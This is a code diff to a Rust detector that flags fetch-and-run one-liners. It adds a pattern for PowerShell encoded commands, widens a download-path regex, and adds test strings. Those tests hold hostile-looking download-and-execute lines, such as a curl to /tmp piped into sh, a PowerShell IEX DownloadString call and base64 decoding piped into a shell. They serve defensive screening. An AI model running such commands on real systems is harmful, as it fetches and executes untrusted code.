@@ -7,7 +7,7 @@ use regex::Regex;
 use crate::promotion::screen::{Spot, compiled};
 
 /// Ways to fetch something and run it in one line, and what is said of each.
-const PATTERNS: [(&str, &str); 8] = [
+const PATTERNS: [(&str, &str); 9] = [
     (
         r"(?m)^[ \t]*#!\s*/\S+",
         "a first line that makes the text a program",
@@ -33,6 +33,10 @@ const PATTERNS: [(&str, &str); 8] = [
         "it unpacks a program and runs it",
     ),
     (
+        r"(?i)\bpowershell(?:\.exe)?\b[^\n]*\s-e(?:nc|ncodedcommand)?\s+[a-z0-9+/=]{8,}",
+        "it unpacks a program and runs it",
+    ),
+    (
         r"(?i)\bbase64\s+(?:-d|-D|--decode)\b[^\n|]*\|\s*(?:sudo\s+)?(?:(?:ba|z|da|k)?sh|python[\d.]*|perl)\b",
         "it unpacks a program and runs it",
     ),
@@ -46,7 +50,7 @@ static COMPILED: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| compile
 
 /// A download to a file whose name is the first group.
 static SAVED: LazyLock<Option<Regex>> = LazyLock::new(|| {
-    Regex::new(r"(?i)\b(?:curl|wget|iwr|invoke-webrequest)\b[^\n]*?\s(?:-o|--output|-OutFile|>)\s*(?:\./|/tmp/)?([\w.-]{2,60})").ok()
+    Regex::new(r"(?i)\b(?:curl|wget|iwr|invoke-webrequest)\b[^\n]*?\s(?:-o|--output|-OutFile|>)\s*(?:\./)?([\w./-]{2,100})").ok()
 });
 
 /// What runs a file whose name follows.
@@ -132,6 +136,8 @@ mod tests {
             "IEX (New-Object Net.WebClient).DownloadString('https://a.b/x')",
             "```python\neval(base64.b64decode('aGk='))\n```",
             "echo aGk= | base64 -d | sh",
+            "powershell -enc SQBFAFgA",
+            "curl https://a.b/x -o /tmp/a && sh /tmp/a",
             "```sh\ncurl -o fix.sh https://a.b/x\nchmod +x fix.sh\n```",
         ] {
             assert_eq!(says(text).len(), 1, "{text}");
